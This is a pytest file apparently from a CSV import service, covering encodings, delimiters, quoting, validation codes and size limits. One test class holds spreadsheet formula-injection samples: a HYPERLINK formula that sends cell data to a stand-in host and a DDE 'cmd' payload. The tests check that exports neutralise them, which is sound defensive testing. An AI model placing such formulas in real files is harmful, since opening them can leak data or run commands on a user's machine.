"""The corpus of awkward files (tests/imports/corpus/): each file's outcome, as a user would see it."""
# ruff: noqa: RUF001 - the corpus is about characters outside ASCII

from __future__ import annotations

import pytest

from jobdeck import errors, model
from jobdeck.demo import imports as demo
from jobdeck.query import JobQuery
from jobdeck.service import Service
from tests.imports.conftest import CORPUS, Outcome, RunImport, SetSetting, rows

Status = model.Status


def corpus(name: str) -> bytes:
    return (CORPUS / name).read_bytes()


def run_corpus(run_import: RunImport, name: str, **options: object) -> Outcome:
    return run_import(corpus(name), filename=name, **options)


def emails(service: Service) -> list[str]:
    return sorted(r["email"] for r in rows(service))


def test_a_utf8_file_with_a_bom_keeps_its_accents(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "bom_utf8.csv")
    assert result.status is Status.COMPLETED
    assert result.job.description == "bom_utf8.csv: 2 imported, 0 rejected"
    assert [(r["first_name"], r["company"]) for r in rows(importer)] == [("José", "Señor & Co"), ("Zoë", "Straße AG")]


def test_a_utf16_file_from_excel_is_read_with_its_tabs(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "utf16_tabs.txt")
    assert result.status is Status.COMPLETED
    assert [(r["last_name"], r["company"]) for r in rows(importer)] == [("王", "北京"), ("Müller", "Straße AG")]


def test_a_file_that_is_not_utf8_is_read_as_cp1252(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "cp1252.csv")
    assert result.status is Status.COMPLETED
    assert [r["company"] for r in rows(importer)] == ["“Quotes” – dash", "Œuvres €"]


def test_a_named_encoding_is_used_instead_of_the_fallback(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "cyrillic_cp1251.csv", encoding="cp1251")
    assert result.status is Status.COMPLETED
    assert [(r["first_name"], r["company"]) for r in rows(importer)] == [("Иван", "Рога и копыта")]


def test_without_a_named_encoding_a_cp1251_file_is_predictably_read_as_cp1252(
    run_import: RunImport, importer: Service
) -> None:
    assert run_corpus(run_import, "cyrillic_cp1251.csv").status is Status.COMPLETED
    assert rows(importer)[0]["first_name"] == "Èâàí"


def test_a_file_in_neither_utf8_nor_cp1252_fails_asking_for_its_encoding(
    run_import: RunImport, importer: Service
) -> None:
    result = run_corpus(run_import, "not_utf8_nor_cp1252.csv")
    assert result.status is Status.FAILED
    assert "neither UTF-8 nor cp1252" in (result.job.error or "")
    assert rows(importer) == []


@pytest.mark.parametrize("name", ["semicolons.csv", "tabs.tsv", "pipes.txt"])
def test_the_delimiter_is_detected(run_import: RunImport, importer: Service, name: str) -> None:
    result = run_corpus(run_import, name)
    assert result.status is Status.COMPLETED
    assert result.errors == []
    assert all(r["email"].endswith("@example.com") for r in rows(importer))


def test_a_quoted_delimiter_stays_inside_its_cell(run_import: RunImport, importer: Service) -> None:
    run_corpus(run_import, "semicolons.csv")
    assert rows(importer)[0]["company"] == "Analytical, Engines"


def test_quoted_fields_may_hold_newlines_and_quotes(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "quoted_newlines.csv")
    assert result.status is Status.COMPLETED
    assert result.job.description == "quoted_newlines.csv: 2 imported, 1 rejected"
    assert [(r["first_name"], r["company"]) for r in rows(importer)] == [
        ("Barbara", "MIT\r\nCambridge, MA"),
        ('Donald "Don"', 'Stanford, "CS"'),
    ]
    assert result.error_codes == [(3, "email", "bad_email")]


def test_blank_lines_are_skipped_but_keep_their_row_numbers(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "blank_lines.csv")
    assert result.status is Status.COMPLETED
    assert result.job.description == "blank_lines.csv: 1 imported, 1 rejected"
    assert result.error_codes == [(6, "email", "bad_email")]


def test_ragged_rows_are_padded_but_extra_cells_are_rejected(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "ragged_rows.csv")
    assert result.status is Status.COMPLETED
    assert emails(importer) == ["ada@example.com", "alan@example.com"]
    assert result.error_codes == [(3, "", "wrong_cell_count"), (4, "email", "required")]


def test_a_repeated_key_keeps_the_first_row_and_rejects_the_others(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "duplicate_keys.csv")
    assert result.status is Status.COMPLETED
    assert [(r["email"], r["last_name"]) for r in rows(importer)] == [
        ("ada@example.com", "Lovelace"),
        ("alan@example.com", "Turing"),
    ]
    assert result.error_codes == [(2, "email", "duplicate_key"), (4, "email", "duplicate_key")]


def test_an_unknown_column_is_ignored_and_named_in_the_log(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "unknown_header.csv")
    assert result.status is Status.COMPLETED
    assert [r["email"] for r in rows(importer)] == ["ada@example.com"]
    assert "Ignored file columns (no column of Contacts takes them): 'nickname'" in [
        line.message for line in result.detail.log
    ]


def test_a_missing_required_column_fails_the_job(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "missing_header.csv")
    assert result.status is Status.FAILED
    assert "The required column 'email' matches no column of the file" in (result.job.error or "")
    assert rows(importer) == []


def test_headers_match_ignoring_case_spaces_underscores_and_dashes(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "header_variants.csv")
    assert result.status is Status.COMPLETED
    [row] = rows(importer)
    assert (row["email"], row["country"], str(row["created_on"])) == ("ada@example.com", "GB", "1815-12-10")


@pytest.mark.parametrize(
    ("name", "says"),
    [("binary_garbage.csv", "NUL bytes"), ("png_named.csv", "PNG image")],
)
def test_binary_files_are_refused_at_upload(importer: Service, uploader: model.User, name: str, says: str) -> None:
    with pytest.raises(errors.InvalidParams, match=says), open(CORPUS / name, "rb") as f:
        importer.start_import(uploader, f, name, "contacts")
    assert importer.list_jobs(uploader, JobQuery()).items == []


def test_an_empty_file_fails_the_job(run_import: RunImport) -> None:
    result = run_corpus(run_import, "empty.csv")
    assert result.status is Status.FAILED
    assert result.job.error == "The file is empty."


def test_a_header_only_file_completes_with_nothing_imported(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "header_only.csv")
    assert result.status is Status.COMPLETED
    assert result.job.description == "header_only.csv: 0 imported, 0 rejected"
    assert model.FileKind.ERROR_REPORT not in result.files


def test_every_error_code_of_the_contacts_target_is_reported(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "codes.csv")
    assert result.status is Status.COMPLETED
    assert result.error_codes == [
        (1, "first_name", "required"),
        (2, "email", "bad_email"),
        (3, "country", "not_allowed"),
        (4, "created_on", "bad_date"),
        (5, "company", "too_long"),
    ]
    assert result.errors[4][4] == "company is 201 characters long; the maximum is 200"


def test_product_numbers_and_booleans_are_checked(run_import: RunImport, importer: Service) -> None:
    result = run_corpus(run_import, "products.csv", target="products")
    assert result.status is Status.COMPLETED
    assert result.error_codes == [
        (2, "price", "bad_decimal"),
        (3, "price", "too_small"),
        (4, "quantity", "bad_int"),
        (5, "active", "bad_bool"),
        (6, "price", "bad_decimal"),
    ]
    [product] = rows(importer, demo.products_table)
    assert (product["sku"], str(product["price"]), product["quantity"], product["active"]) == ("A-1", "12.50", 3, True)


def test_a_cell_over_the_cell_limit_fails_the_job_naming_the_limit(
    run_import: RunImport, importer: Service, set_setting: SetSetting
) -> None:
    set_setting(import_max_cell_chars=1000)
    data = corpus("header_only.csv") + b"Ada,Lovelace,ada@example.com,," + b"x" * 1001 + b",GB,\r\n"
    result = run_import(data)
    assert result.status is Status.FAILED
    assert result.job.error == (
        "Row 1 has a cell longer than the limit of 1,000 characters (JOBDECK_IMPORT_MAX_CELL_CHARS)."
    )
    assert rows(importer) == []


class TestFormulaLookingValues:
    def test_are_stored_exactly_as_given(self, run_import: RunImport, importer: Service) -> None:
        run_corpus(run_import, "formulas.csv")
        [row] = rows(importer)
        assert row["first_name"] == '=HYPERLINK("http://evil.example/?"&A1)'
        assert (row["phone"], row["company"]) == ("+1 555 0100", "@SUM(1+1)")

    def test_are_neutralised_in_the_error_report(self, run_import: RunImport) -> None:
        result = run_corpus(run_import, "formulas.csv")
        assert [(r[0], r[1], r[2], r[3]) for r in result.errors] == [
            ("2", "email", "'=cmd|' /C calc'!A0", "bad_email"),
            ("3", "country", "'\tXX", "not_allowed"),
        ]

    def test_are_neutralised_in_the_rejected_rows(self, run_import: RunImport) -> None:
        result = run_corpus(run_import, "formulas.csv")
        rejected = result.csv(model.FileKind.OUTPUT, "-rejected-rows.csv")
        assert rejected == [
            ["first_name", "last_name", "email", "phone", "company", "country", "created_on"],
            ["Eve", "Evil", "'=cmd|' /C calc'!A0", "'-2+3", "'+team", "US", ""],
            ["Mallory", "M", "mallory@example.com", "", "Tabbed", "'\tXX", ""],
        ]


def test_a_byte_order_mark_outranks_a_named_encoding(run_import: RunImport, importer: Service) -> None:
    assert run_corpus(run_import, "bom_utf8.csv", encoding="cp1252").status is Status.COMPLETED
    assert [r["first_name"] for r in rows(importer)] == ["José", "Zoë"]


def test_the_job_log_says_how_the_file_was_read(run_import: RunImport) -> None:
    result = run_corpus(run_import, "semicolons.csv")
    assert result.detail.log[0].message == (
        "Reading semicolons.csv as utf-8 text, semicolon-delimited; "
        "columns first_name, last_name, email, phone, company, country, created_on into Contacts"
    )
